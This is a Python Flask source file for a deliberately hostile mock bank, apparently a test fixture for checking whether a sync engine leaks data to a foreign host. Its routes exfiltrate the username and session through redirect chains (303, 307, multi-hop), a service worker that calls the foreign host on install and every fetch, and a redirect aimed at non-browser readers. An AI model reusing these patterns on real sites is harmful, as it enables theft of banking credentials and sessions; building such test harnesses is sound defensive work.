"""Banque Exfil: a tiny bank whose pages try every way out to a foreign host.

It is a real, syncable bank (a login, one account, a statement) so the engine runs its
ordinary flow; the case chosen in the login URL (``/connexion?case=NAME``, kept in the session)
adds one attack from ``attacks.py`` to the login page, or changes how the login POST or the
statement answer. ``#attaque-faite`` appears once the page's attacks have had their chance,
so a recipe can wait for it before typing. Every foreign URL carries the username or the
session where it can, as a real exfiltration would.
"""

from __future__ import annotations

from html import escape
from urllib.parse import quote

from flask import Flask, Response, abort, redirect, request, session

from sites.exfil.attacks import CASES, Case, render

USERNAME = "client-42"
PASSWORD = "s3cret-PW-99"
ACCOUNT = {"id": "FR76-0001", "label": "Compte courant", "balance": "1 234,56 €"}
OPERATIONS = [("18/11/2026", "CARTE BOULANGERIE", "-4,20 €"),
              ("19/11/2026", "VIREMENT SALAIRE", "2 100,00 €")]
DONE_MARKER = ('<script>setTimeout(() => document.body.insertAdjacentHTML("beforeend", '
               '\'<i id="attaque-faite"></i>\'), 350);</script>')


def create_app(foreign: str) -> Flask:
    """``foreign``: the origin the pages try to reach (``http://localhost:PORT``)."""
    app = Flask("exfil")
    app.secret_key = "exfil-demo-only"

    def case() -> Case:
        return CASES.get(str(session.get("case", "none")), CASES["none"])

    @app.get("/connexion")
    def login_page() -> Response:
        session["case"] = request.args.get("case", "none")
        current = case()
        action = current.form_action.replace("F/", foreign + "/") if current.form_action \
            else "/connexion"
        page = (f"<!doctype html><html><head><meta charset=utf-8><title>Banque Exfil</title>"
                f"{render(current, foreign)}</head><body><h1>Connexion</h1>"
                f'<form id="login" method="post" action="{escape(action)}">'
                '<input id="identifiant" name="user"><input id="mdp" name="pass" '
                'type="password"><button id="valider">Valider</button></form>'
                f"{DONE_MARKER}</body></html>")
        response = Response(page, content_type="text/html; charset=utf-8")
        response.set_cookie("prefs", "lang-fr-" + USERNAME)  # readable by document.cookie
        return response

    @app.post("/connexion")
    def login() -> Response:
        user, password = request.form.get("user", ""), request.form.get("pass", "")
        if (user, password) != (USERNAME, PASSWORD):
            return Response("<p class=erreur>Identifiant ou mot de passe incorrect</p>",
                            content_type="text/html; charset=utf-8")
        session["user"] = user
        chain = case().login_redirect
        if chain == "303":
            return redirect(f"/hop303?u={quote(user)}", code=303)
        if chain == "307":
            return redirect("/hop307", code=307)
        return redirect("/comptes", code=303)

    @app.get("/hop303")
    def hop303() -> Response:
        return redirect(f"{foreign}/collect?u={quote(request.args.get('u', ''))}", code=303)

    @app.post("/hop307")
    def hop307() -> Response:
        return redirect(f"{foreign}/collect", code=307)

    @app.route("/r/<int:hops>/<path:rest>", methods=["GET", "POST"])
    def hop(hops: int, rest: str) -> Response:
        return _chain("r", hops, rest, 302)

    @app.route("/r307/<int:hops>/<path:rest>", methods=["GET", "POST"])
    def hop307_chain(hops: int, rest: str) -> Response:
        return _chain("r307", hops, rest, 307)

    def _chain(prefix: str, hops: int, rest: str, code: int) -> Response:
        query = f"?{request.query_string.decode()}" if request.query_string else ""
        if hops > 0:
            return redirect(f"/{prefix}/{hops - 1}/{rest}{query}", code=code)
        who = quote(str(session.get("user", "anonymous")))
        return redirect(f"{foreign}/{rest}?u={who}", code=code)

    @app.get("/sw.js")
    def service_worker() -> Response:
        body = (f'self.addEventListener("install", () => fetch("{foreign}/sw-install"));'
                f'self.addEventListener("fetch", e => e.respondWith(fetch("{foreign}/sw")));')
        return Response(body, content_type="text/javascript")

    @app.get("/comptes")
    def accounts() -> Response:
        if "user" not in session:
            return redirect("/connexion", code=302)
        row = (f'<tr class="compte" data-id="{ACCOUNT["id"]}"><td class="libelle">'
               f'<a href="/operations/{ACCOUNT["id"]}">{ACCOUNT["label"]}</a></td>'
               f'<td class="solde">{ACCOUNT["balance"]}</td></tr>')
        return _page("Comptes", '<a id="deconnexion" href="/connexion">Déconnexion</a>'
                     f'<table id="comptes"><tbody>{row}</tbody></table>')

    @app.get("/operations/<account>")
    def operations(account: str) -> Response:
        if "user" not in session:
            return redirect("/connexion", code=302)
        if account != ACCOUNT["id"]:
            abort(404)
        if case().plain_list and "sec-fetch-dest" not in request.headers:
            # read without a browser (no Sec-Fetch-* headers): send the reader elsewhere
            return redirect(f"{foreign}/operations?u={quote(session['user'])}", code=302)
        rows = "".join(f'<tr><td class="date">{d}</td><td class="libelle">{label}</td>'
                       f'<td class="montant">{amount}</td></tr>'
                       for d, label, amount in OPERATIONS)
        return _page("Opérations", f'<table class="operations"><tbody>{rows}</tbody></table>')

    return app


def _page(title: str, body: str) -> Response:
    return Response(f"<!doctype html><html><head><meta charset=utf-8><title>{title}</title>"
                    f"</head><body>{body}</body></html>",
                    content_type="text/html; charset=utf-8")


__all__ = ["ACCOUNT", "OPERATIONS", "PASSWORD", "USERNAME", "create_app"]
